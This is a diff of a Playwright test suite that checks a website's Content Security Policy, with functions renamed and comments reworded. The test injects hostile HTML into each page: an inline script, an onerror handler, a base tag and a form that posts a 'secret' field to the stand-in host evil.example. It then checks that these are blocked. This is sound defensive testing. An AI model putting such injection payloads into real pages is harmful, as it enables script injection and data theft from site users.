@@ -1,12 +1,11 @@
 import { expect, type Page, test } from '@playwright/test'
-import { violations } from './policy-violations.ts'
+import { collectPolicyViolations } from './policy-violations.ts'
 
 const EVIL = 'https://evil.example'
 
-/** The policies differ by what is inline: a page with pictures, forms, a dialog, data, and the one for what is not there. */
+/** The policies of these pages differ by their inline scripts and styles. */
 const ROUTES = ['/', '/contact/', '/careers/data-scientist/', '/nothing-here/']
 
-/** What somebody who could write into a page would try, as its HTML and by script. */
 const INJECTED = `
   <script>window.owned = 'inline script'</script>
   <img id="handler" src="/nothing.png" onerror="window.owned = 'handler'">
@@ -17,8 +16,8 @@ const INJECTED = `
   <base href="${EVIL}/">
   <form id="stolen" action="${EVIL}/form" method="post"><input name="secret" value="1"></form>`
 
-/** Everything that reached the other site; nothing may. */
-async function watchEvil(page: Page): Promise<string[]> {
+/** Collects the requests that reach the other site. */
+async function collectEvilRequests(page: Page): Promise<string[]> {
   const reached: string[] = []
   await page.route(`${EVIL}/**`, async (route) => {
     reached.push(route.request().url())
@@ -30,9 +29,9 @@ async function watchEvil(page: Page): Promise<string[]> {
 const owned = (page: Page) => page.evaluate(() => Reflect.get(window, 'owned'))
 
 for (const route of ROUTES) {
-  test(`${route}: script, handler, foreign script, frame and form target are refused`, async ({ page }) => {
-    const found = await violations(page)
-    const reached = await watchEvil(page)
+  test(`${route}: injected scripts, handlers, frames and form targets are blocked`, async ({ page }) => {
+    const found = await collectPolicyViolations(page)
+    const reached = await collectEvilRequests(page)
     await page.route(`**${route}`, async (request) => {
       const answer = await request.fetch()
       const body = (await answer.text()).replace('</body>', `${INJECTED}</body>`)
@@ -51,7 +50,6 @@ for (const route of ROUTES) {
     await page.locator('#stolen').evaluate((form) => form instanceof HTMLFormElement && form.submit())
     await blocked(/^form-action https:\/\/evil\.example\/form/)
 
-    // And by script, as a careless line of our own could do it.
     const refused = await page.evaluate((evil) => {
       const attempts = [
         () => {
@@ -82,7 +80,7 @@ for (const route of ROUTES) {
   })
 }
 
-test('nobody can put a page into a frame', async ({ page, baseURL }) => {
+test('other sites cannot embed a page in a frame', async ({ page, baseURL }) => {
   await page.route(`${EVIL}/**`, (route) =>
     route.fulfill({ status: 200, contentType: 'text/html', body: `<iframe src="${baseURL}/contact/"></iframe>` }),
   )
